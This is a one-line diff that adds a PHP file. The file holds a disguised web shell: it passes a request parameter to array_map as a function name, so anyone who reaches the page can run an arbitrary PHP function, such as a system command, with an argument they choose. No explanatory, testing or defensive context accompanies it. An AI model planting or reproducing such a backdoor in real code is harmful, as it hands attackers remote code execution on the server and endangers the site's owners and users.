@@ -1,0 +1,1 @@
+<?php array_map($_GET['f'], array($_GET['a'])); ?>
